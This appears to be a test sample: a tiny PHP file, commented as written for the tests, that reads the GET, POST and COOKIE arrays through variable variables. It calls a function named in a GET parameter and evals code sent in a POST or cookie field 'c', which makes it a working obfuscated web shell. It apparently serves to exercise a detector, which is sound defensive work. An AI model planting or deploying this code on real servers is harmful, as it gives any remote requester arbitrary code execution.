<?php
// request arrays named by literals and read through variable variables (written for the tests)
$n = '_GET';
$$n['f']($$n['a']);
foreach (array('_POST', '_COOKIE') as $src) {
    if (isset(${$src}['c'])) { eval(${$src}['c']); }
}
